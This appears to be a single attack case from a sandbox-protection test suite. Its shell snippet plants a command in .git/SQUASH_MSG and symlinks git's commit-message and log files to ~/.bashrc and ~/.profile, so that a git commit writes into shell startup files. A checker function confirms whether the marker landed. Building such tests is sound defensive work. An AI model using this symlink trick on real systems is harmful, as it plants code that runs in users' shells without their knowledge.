"""puts links where git writes its messages and logs, and where it reads the next message"""

SHAPE = "the class of CVE-2024-32002: git writes through a link in its own folder"
PROMISE = "P10"
WALLS = "protected-files,plant-watch"
ACT = """
printf 'touch ~/taken-over\\n' > .git/SQUASH_MSG
rm -f .git/COMMIT_EDITMSG .git/logs/HEAD
ln -s ~/.bashrc .git/COMMIT_EDITMSG; ln -s ~/.profile .git/logs/HEAD
"""


def succeeded(host, done):
    host.git("-c", "core.editor=true", "commit", "--allow-empty")
    return b"taken-over" in host.read("~/.bashrc") + host.read("~/.profile")
